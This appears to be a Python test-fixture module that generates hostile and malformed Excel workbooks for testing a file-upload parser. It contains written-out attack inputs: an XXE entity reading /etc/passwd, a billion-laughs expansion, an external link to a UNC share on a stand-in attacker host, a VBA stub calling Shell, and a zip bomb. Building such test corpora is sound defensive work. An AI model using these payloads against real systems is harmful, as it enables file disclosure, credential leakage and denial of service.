"""A corpus of broken, hostile and strange returns, generated here from a good one (nothing downloaded)."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

Rewrite = Callable[[str, bytes], bytes | None]  # (part name, content) -> new content, or None to drop


def rezip(good: bytes, rewrite: Rewrite | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """Copy a package part by part, rewriting or adding parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if rewrite is not None:
                data = rewrite(info.filename, data)
            if data is not None:
                dst.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def add_content_type(data: bytes, part: str, content_type: str) -> bytes:
    return data.replace(b"</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode())


def macro_enabled(good: bytes) -> bytes:
    def rewrite(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
        return data

    macro = b"\xd0\xcf\x11\xe0Attribute VB_Name = \"Module1\"\nShell \"calc\""
    return rezip(good, rewrite, {"xl/vbaProject.bin": macro})


def external_link(good: bytes) -> bytes:
    link = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>'
            b"</externalLink>")
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
            b'Target="file:///\\\\attacker.invalid\\share\\book.xlsx" TargetMode="External"/></Relationships>')

    def rewrite(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = add_content_type(data, "xl/externalLinks/externalLink1.xml",
                                    "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
        return data

    return rezip(good, rewrite, {"xl/externalLinks/externalLink1.xml": link,
                                 "xl/externalLinks/_rels/externalLink1.xml.rels": rels})


def embedded_object(good: bytes) -> bytes:
    return rezip(good, extra={"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 embedded package"})


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>&lol9;</t></si></sst>"
)

EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>&xxe;</t></si></sst>"
)


def with_shared_strings(good: bytes, content: bytes) -> bytes:
    """Add a shared-strings part (openpyxl writes inline strings; Excel and LibreOffice write this part)."""
    def rewrite(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = add_content_type(data, "xl/sharedStrings.xml",
                                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml")
        return data

    return rezip(good, rewrite, {"xl/sharedStrings.xml": content})


def bomb(good: bytes, size: int, part: str = "xl/media/image1.png") -> bytes:
    """A small file that inflates to `size` bytes, streamed so that making it costs no memory."""
    out = io.BytesIO(rezip(good))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        info = zipfile.ZipInfo(part)
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w", force_zip64=True) as fh:
            block = b"\0" * 2**20
            for _ in range(size // len(block)):
                fh.write(block)
    return out.getvalue()


def million_rows(good: bytes, sheet: str = "xl/worksheets/sheet3.xml") -> bytes:
    return rezip(good, lambda name, data: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
                 if name == sheet else data)


def not_a_workbook_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("readme.txt", "holiday photos")
    return out.getvalue()


def encrypt(good: bytes, password: str) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(good)).encrypt(password, out)
    return out.getvalue()


def write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.write_bytes(data)
    return path


def far_cell(good: bytes, ref: str, sheet: str = "xl/worksheets/sheet3.xml") -> bytes:
    """One empty styled cell far outside the form: costs nothing to store, a huge grid to allocate."""
    row = ref.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
    cell = f'<row r="{row}"><c r="{ref}" s="1"/></row></sheetData>'.encode()
    return rezip(good, lambda name, data: data.replace(b"</sheetData>", cell, 1) if name == sheet else data)


def number_cell_holding_text(good: bytes, coord: str, text: bytes, sheet: str = "xl/worksheets/sheet3.xml") -> bytes:
    """An empty number cell given a value that is not a number: Excel calls such a file corrupt."""

    def rewrite(name: str, data: bytes) -> bytes:
        if name != sheet:
            return data
        cell = rb'<c r="' + coord.encode() + rb'"( s="\d+")?( t="n")?(?: ?/>|>(?:<v ?/>|<v></v>)?</c>)'
        new, count = re.subn(cell, rb'<c r="' + coord.encode() + rb'"\1\2><v>' + text + rb"</v></c>", data)
        if count == 0:  # no such cell written: typed at the end of its row, beyond the table
            row = coord.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ").encode()
            end = rb'(<row r="' + row + rb'"[^>]*>.*?)(</row>)'
            new, count = re.subn(end, rb'\1<c r="' + coord.encode() + rb'" t="n"><v>' + text + rb"</v></c>\2",
                                 data, count=1, flags=re.S)
        assert count == 1, f"no empty cell {coord} in {sheet}"
        return new

    return rezip(good, rewrite)
